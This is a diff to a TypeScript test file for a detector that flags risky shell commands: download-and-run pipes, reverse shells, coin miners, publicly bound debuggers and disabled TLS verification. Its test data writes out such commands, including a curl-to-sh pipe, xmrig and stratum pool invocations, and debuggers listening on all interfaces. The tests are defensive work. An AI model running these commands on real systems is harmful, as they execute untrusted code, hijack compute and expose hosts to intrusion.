@@ -1,5 +1,13 @@
 import { expect, test } from 'vitest';
-import { downloadsAndRuns, installsPackages, opensReverseShell, runsSshServer } from './shell.ts';
+import {
+  downloadsAndRuns,
+  installsPackages,
+  minesCoins,
+  opensDebugger,
+  opensReverseShell,
+  runsSshServer,
+  skipsTlsVerification,
+} from './shell.ts';
 
 test.each([
   ['curl -sfL https://get.example.com | sh -', true],
@@ -29,6 +37,35 @@ test.each([
   expect(opensReverseShell(text)).toBe(found);
 });
 
+test.each([
+  ['/tmp/xmrig --donate-level 1', true],
+  ['docker.io/kannix/xmrig:latest', true],
+  ['run -o stratum+tcp://pool.example.com:3333', true],
+  ['/app/cookiminerdb', false],
+  ['/app/stratum-server', false],
+])('%j mines coins: %j', (text, found) => {
+  expect(minesCoins(text)).toBe(found);
+});
+
+test.each([
+  ['java -agentlib:jdwp=transport=dt_socket,server=y,suspend=n,address=*:5005 -jar a.jar', true],
+  ['java -agentlib:jdwp=transport=dt_socket,server=y,suspend=n,address=5005 -jar a.jar', false],
+  ['node --inspect=0.0.0.0:9229 app.js', true],
+  ['node --inspect app.js', false],
+  ['dlv exec /app --headless --listen=:2345', true],
+])('%j opens a debugger: %j', (text, found) => {
+  expect(opensDebugger(text)).toBe(found);
+});
+
+test.each([
+  ['kubectl --insecure-skip-tls-verify get pods', true],
+  ['kubectl --insecure-skip-tls-verify=false get pods', false],
+  ['curl -sk https://api.example.com', true],
+  ['curl -s https://api.example.com/k', false],
+])('%j skips TLS verification: %j', (text, found) => {
+  expect(skipsTlsVerification(text)).toBe(found);
+});
+
 test('sshd is known by its name, not by a part of another', () => {
   expect(runsSshServer('/usr/sbin/sshd -D')).toBe(true);
   expect(runsSshServer('/app/notsshd')).toBe(false);
@@ -40,6 +77,6 @@ test('a megabyte of near misses is searched in bounded work', () => {
     downloadsAndRuns(text),
     installsPackages(text),
     opensReverseShell(text),
-    runsSshServer(text),
+    skipsTlsVerification(text),
   ]).toEqual([false, false, false, false]);
 });
